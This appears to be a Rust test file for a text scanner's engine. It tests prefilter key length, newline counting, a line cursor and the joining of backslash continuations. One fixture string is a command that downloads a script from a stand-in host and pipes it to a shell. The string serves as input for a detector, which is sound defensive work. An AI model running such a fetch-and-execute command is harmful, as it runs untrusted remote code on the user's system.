//! Tests of the engine's machinery: the prefilter keys' length, newline
//! counting, the line cursor and backslash continuations.

use super::*;

/// One more trigger prefix can push the automaton past its 16-bit
/// table; the keys then shrink to 3 bytes and every scan gets about
/// twice as slow, with no test failing. This one does: share a prefix
/// with an existing trigger, or drop a rare one.
#[test]
fn the_standard_rules_keep_the_longest_prefilter_keys() {
    let engine = &crate::scan::Scanner::standard().engine;
    assert_eq!(engine.key_bytes, MAX_KEY_BYTES, "{engine:?}");
}

#[test]
fn counts_newlines_across_chunks() {
    for n in [0, 1, 254, 255, 256, 1000] {
        let text: String = (0..n).map(|i| if i % 3 == 0 { '\n' } else { 'x' }).collect();
        assert_eq!(count_newlines(text.as_bytes()), text.matches('\n').count(), "{n}");
    }
    assert_eq!(count_newlines(&[b'\n'; 600]), 600);
}

#[test]
fn line_cursor_counts_lines_across_jumps() {
    let text = "a\nbb\n\nccc curl\nd curl e curl\n";
    let mut c = LineCursor::default();
    let l = c.locate(text, 0);
    assert_eq!((l.index, l.start, l.end), (0, 0, 1));
    let p = text.find("curl").unwrap();
    let l = c.locate(text, p);
    assert_eq!(l.index, 3);
    assert_eq!(&text[l.start..l.end], "ccc curl");
    let p2 = text.len() - 2;
    let l = c.locate(text, p2);
    assert_eq!(l.index, 4);
    assert_eq!(&text[l.start..l.end], "d curl e curl");
}

#[test]
fn joins_backslash_continuations() {
    let text = "curl -s https://x.example \\\n  | sh\nnext";
    let j = join_continuation(text, LineRef { index: 0, start: 0, end: 26 }).unwrap();
    assert_eq!(j, "curl -s https://x.example    | sh");
}
